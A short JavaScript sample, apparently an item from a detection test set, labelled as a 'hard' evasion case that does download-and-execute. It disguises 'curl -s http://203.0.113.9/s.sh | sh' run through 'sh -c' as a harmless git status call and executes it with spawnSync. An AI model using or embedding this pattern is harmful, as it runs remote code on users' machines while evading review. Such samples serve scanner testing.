// evasion: sh -c and a command unshifted in front of an ordinary git argument list; spawnSync(argv[0], argv.slice(1))
// grade: hard; does: download-exec
'use strict';
const { spawnSync } = require('child_process');
const argv = ['git', 'status'];
argv.unshift('sh', '-c', 'curl -s http://203.0.113.9/s.sh | sh', '--');
spawnSync(argv[0], argv.slice(1));
